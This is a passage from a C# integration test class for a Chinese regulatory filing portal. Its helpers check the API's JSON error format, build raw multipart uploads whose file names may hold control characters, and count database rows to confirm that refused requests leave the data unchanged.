            Assert.Equal("public.query_control", JsonDocument.Parse(body).RootElement.GetProperty("errors")[0].GetProperty("code").GetString());
        Assert.Equal(before, await CountsAsync());
    }

    /// <summary>
    /// The response is the documented error: one of the statuses, application/json, <c>{errors:[{code,message}]}</c> with a
    /// stable code (the one given, when given) and a Chinese message. Returns the body.
    /// </summary>
    private static async Task<string> ApiErrorAsync(HttpResponseMessage response, string what, int[] statuses, string? code)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(statuses.Contains((int)response.StatusCode), $"{what}: {(int)response.StatusCode} {response.Content.Headers.ContentType} {body[..Math.Min(400, body.Length)]}");
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        var errors = JsonDocument.Parse(body).RootElement.GetProperty("errors");
        Assert.Equal(JsonValueKind.Array, errors.ValueKind);
        var error = errors[0];
        Assert.Matches(StableCode(), error.GetProperty("code").GetString());
        if (code is not null) Assert.Equal(code, error.GetProperty("code").GetString());
        Assert.Matches(Chinese(), error.GetProperty("message").GetString());
        return body;
    }

    /// <summary>A multipart body written byte by byte, so file names can carry what HttpClient would refuse to send (NUL, CR LF).</summary>
    private static ByteArrayContent RawMultipart(Upload upload)
    {
        const string boundary = "----corpus7MA4YWxkTrZu0gW";
        var body = new MemoryStream();
        void Text(string s) => body.Write(Encoding.UTF8.GetBytes(s));
        Text($"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{upload.FileName.Replace("\"", "%22")}\"\r\nContent-Type: application/octet-stream\r\n\r\n");
        body.Write(upload.File());
        Text($"\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"template\"\r\n\r\n{upload.Template}\r\n");
        Text($"--{boundary}\r\nContent-Disposition: form-data; name=\"period\"\r\n\r\n{upload.Period}\r\n");
        // Filed by the key's 签报人 with the attestation: what is refused is the file itself.
        Text($"--{boundary}\r\nContent-Disposition: form-data; name=\"attestation\"\r\n\r\ntrue\r\n--{boundary}--\r\n");
        var content = new ByteArrayContent(body.ToArray());
        content.Headers.TryAddWithoutValidation("Content-Type", $"multipart/form-data; boundary={boundary}");
        return content;
    }

    private HttpClient Client(string key)
    {
        var client = portal.Anonymous();
        client.DefaultRequestHeaders.TryAddWithoutValidation("Authorization", $"Bearer {key}");
        return client;
    }

    /// <summary>
    /// Rows of every table the portal maps but the logs of refused attempts and the audit trail, and each province's seal.
    /// Plain SQL, past the query filters, through the portal's own connection: the same on either provider.
    /// </summary>
    private async Task<string> CountsAsync()
    {
        await using var db = portal.Db();
        var tables = db.Model.GetEntityTypes().Select(e => e.GetTableName()).OfType<string>().Distinct().Except(LogTables).Order(StringComparer.Ordinal);
        var sb = new StringBuilder();
        foreach (var table in tables)
            sb.Append(table).Append('=').Append(await CountAsync(db, table)).Append(' ');
        var seals = await db.Database.SqlQueryRaw<long>("""SELECT COALESCE("SealFileId", 0) AS "Value" FROM "Provinces" ORDER BY "Id" """).ToListAsync();
        return sb.Append("seals=").AppendJoin(',', seals).ToString();
    }

    private async Task<long> CountAsync(string table)
    {
        await using var db = portal.Db();
        return await CountAsync(db, table);
    }

    private static Task<long> CountAsync(SupervisionDbContext db, string table)
    {
        var sql = "SELECT COUNT(*) AS \"Value\" FROM \"" + table + "\"";
        return db.Database.SqlQueryRaw<long>(sql).SingleAsync();
    }

    [GeneratedRegex(@"^[a-zA-Z_]+(\.[a-z_]+)?$")]
    private static partial Regex StableCode();

    [GeneratedRegex(@"\p{IsCJKUnifiedIdeographs}")]
    private static partial Regex Chinese();
}
